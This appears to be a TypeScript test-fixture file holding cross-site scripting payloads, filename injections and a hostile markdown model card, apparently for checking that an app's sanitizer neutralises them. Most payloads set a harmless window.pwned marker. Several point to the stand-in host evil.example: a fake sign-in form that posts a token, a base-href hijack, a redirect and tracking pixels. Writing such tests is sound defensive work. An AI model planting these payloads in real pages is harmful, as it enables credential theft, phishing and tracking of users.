/** Each would set `window.pwned` where it is taken for more than text. */
export const TEXTS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=2">',
  '"><svg onload=window.pwned=3>',
  "javascript:window.pwned=4//'",
  '{{constructor.constructor("window.pwned=5")()}}',
  '</title><script>window.pwned=6</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
  '${window.pwned=7}',
  '\u202egnp.exe',
];

/** File names that the store takes. */
export const NAMES: readonly string[] = [
  '<img src=x onerror=window.pwned=8>.txt',
  '"onmouseover="window.pwned=9".txt',
  'a&lt;script&gt;.txt',
  '{{7*7}}.txt',
];

/** A model card by somebody who means harm. */
export const CARD: string = `---
license: mit
---
# Card <script>window.pwned=10</script>

<script>window.pwned=11</script>
<img src=x onerror="window.pwned=12">
<svg><script>window.pwned=13</script><a xlink:href="javascript:window.pwned=14"><text>x</text></a></svg>
<iframe srcdoc="<script>parent.pwned=15</script>"></iframe>
<object data="data:text/html,<script>parent.pwned=16</script>"></object>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=17"></style></mglyph></table></mtext></math>
<form action="https://evil.example"><input name=token autofocus onfocus="window.pwned=18"><button>Sign in again</button></form>
<details open ontoggle="window.pwned=19"><summary>more</summary>x</details>
<a href="javascript:window.pwned=20">one</a> [two](javascript:window.pwned=21) [three](data:text/html,<script>window.pwned=22</script>)
[four](JaVaScRiPt:window.pwned=23) [five](vbscript:x) <a href="&#106;avascript:window.pwned=24">six</a>
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>body{display:none}</style><div style="position:fixed;inset:0;background:url(https://evil.example/x)">over all</div>
![seven](https://evil.example/pixel.png) ![eight](//evil.example/pixel.png) <img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x">
<video src="https://evil.example/v.mp4" autoplay onloadstart="window.pwned=25"></video><audio src="https://evil.example/a.mp3"></audio>
<div id="root" class="fixed inset-0">clobber</div><a id="pwned" name="pwned">clobber</a>
<noscript><p title="</noscript><img src=x onerror=window.pwned=26>"></noscript>
<!--><img src=x onerror=window.pwned=27>-->
<x onclick=window.pwned=28>x</x>

\`\`\`<script>window.pwned=29</script>
code
\`\`\`

The end of the card.
`;
